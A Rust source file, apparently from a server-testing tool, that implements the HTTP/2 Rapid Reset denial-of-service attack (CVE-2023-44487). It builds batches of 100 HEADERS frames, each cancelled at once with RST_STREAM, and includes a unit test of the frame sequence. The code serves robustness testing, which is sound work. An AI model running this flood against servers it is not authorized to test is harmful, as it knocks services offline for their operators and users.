//! `h2-rapid-reset` (CVE-2023-44487): on each connection, request after request opened with
//! HEADERS and cancelled at once with RST_STREAM, 100 to a write. Cancelled streams do not
//! count against the concurrent-stream limit, so a server that accepts them without bound
//! does the work of each (routing, handler, response) for nothing, as fast as the attacker can
//! write. A bounded server closes the connection after a few dozen (GOAWAY
//! ENHANCE_YOUR_CALM).

use super::h2_abuse;
use crate::dos::runner::PROBE_PATH;
use crate::h2wire::{self, CANCEL, END_HEADERS, END_STREAM, HEADERS, RST_STREAM};
use crate::scenarios::{Load, Run, Scenario};

/// Streams opened and reset per write.
pub const BATCH: u32 = 100;

/// The registry entry.
pub const SCENARIO: Scenario = Scenario {
    name: "h2-rapid-reset",
    kind: "dos",
    description: "HTTP/2 streams opened and reset at once, 100 per write (CVE-2023-44487)",
    run: Run::Dos(|ctx, counters| {
        Box::pin(h2_abuse::run(
            ctx,
            counters,
            h2_abuse::Abuse { round, read: true },
        ))
    }),
    load: Load::H2Connections,
};

/// Round `r`: streams `BATCH * r ..` (client stream ids are odd), each HEADERS then
/// RST_STREAM CANCEL; `None` once the stream ids run out.
fn round(host: &str, r: u32) -> Option<h2_abuse::Round> {
    let block = h2wire::request_block("GET", PROBE_PATH, host);
    let mut out = Vec::with_capacity(BATCH as usize * (block.len() + 2 * 9 + 4));
    for i in 0..BATCH {
        let id = r
            .checked_mul(BATCH)?
            .checked_add(i)?
            .checked_mul(2)?
            .checked_add(1)?;
        if id > 0x7fff_ffff {
            return None;
        }
        h2wire::push_frame(&mut out, HEADERS, END_STREAM | END_HEADERS, id, &block);
        h2wire::push_frame(&mut out, RST_STREAM, 0, id, &CANCEL.to_be_bytes());
    }
    Some((out, u64::from(BATCH)))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[tokio::test]
    async fn every_stream_is_opened_then_cancelled_with_rising_odd_ids() {
        let (bytes, n) = round("localhost", 1).expect("round");
        assert_eq!(n, u64::from(BATCH));
        let mut r = &bytes[..];
        let mut last = 0;
        for _ in 0..BATCH {
            let h = h2wire::read_frame(&mut r).await.expect("headers");
            assert_eq!((h.kind, h.flags), (HEADERS, END_STREAM | END_HEADERS));
            let c = h2wire::read_frame(&mut r).await.expect("rst");
            assert_eq!(
                (c.kind, c.stream, &c.payload[..]),
                (RST_STREAM, h.stream, &[0, 0, 0, 8][..])
            );
            assert!(h.stream % 2 == 1 && h.stream > last);
            last = h.stream;
        }
        assert_eq!(last, 2 * (2 * BATCH - 1) + 1);
        assert!(r.is_empty());
        assert!(round("localhost", u32::MAX / BATCH).is_none());
    }
}
